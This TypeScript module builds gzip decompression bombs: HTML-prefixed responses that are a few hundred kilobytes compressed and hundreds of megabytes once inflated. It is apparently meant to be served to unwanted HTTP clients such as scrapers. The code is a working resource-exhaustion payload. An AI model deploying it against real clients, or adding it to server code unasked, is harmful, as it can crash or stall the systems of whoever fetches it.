// A gzip decompression bomb: a few hundred KB on the wire, hundreds of MB once inflated. Built once
// per size by streaming a blank buffer through zlib (never holding the inflated bytes in memory).
import { createGzip, constants } from "node:zlib";

const cache = new Map<number, Promise<Buffer>>();

export function gzipBomb(inflatedBytes: number): Promise<Buffer> {
  let p = cache.get(inflatedBytes);
  if (!p) {
    p = build(inflatedBytes);
    cache.set(inflatedBytes, p);
  }
  return p;
}

async function build(total: number): Promise<Buffer> {
  const gz = createGzip({ level: constants.Z_BEST_COMPRESSION });
  const out: Buffer[] = [];
  gz.on("data", (b: Buffer) => out.push(b));
  const done = new Promise<void>((resolve, reject) => {
    gz.on("end", resolve);
    gz.on("error", reject);
  });
  const head = Buffer.from("<!DOCTYPE html><html><body><p>", "ascii");
  gz.write(head);
  const blank = Buffer.alloc(1 << 20, 0x20);
  for (let left = total - head.length; left > 0; left -= blank.length) {
    const ok = gz.write(left >= blank.length ? blank : blank.subarray(0, left));
    if (!ok) await new Promise((r) => gz.once("drain", r));
  }
  gz.end();
  await done;
  return Buffer.concat(out);
}
